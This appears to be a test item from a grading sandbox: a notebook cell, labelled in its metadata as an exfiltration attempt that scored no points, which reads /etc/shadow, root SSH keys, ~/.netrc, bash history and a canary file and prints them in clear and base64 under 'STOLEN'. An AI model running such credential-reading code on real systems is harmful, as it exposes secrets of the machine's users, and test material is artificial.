# ---
# jupyter:
#   corpus:
#     title: exfiltration by the outputs themselves
#     attempts: prints what it can read of the system's files, in clear and encoded
#     points: {1a: 0, 2: 0, 3: 0}
#     flags: []
#     reference: false
# ---

# %% after="imports"
import base64
import getpass
import os
import platform

for path in ("/etc/shadow", "/etc/passwd", "/etc/hostname", "/root/.ssh/id_rsa", "/root/.bash_history",
             os.path.expanduser("~/.netrc"), "/root/canary.txt"):
    try:
        content = open(path, "rb").read()
    except OSError:
        continue
    print("STOLEN:", path, content, base64.b64encode(content))
if os.getuid() == 0 or platform.node() not in ("localhost", "sandbox", "course", platform.node()):
    print("STOLEN: root")
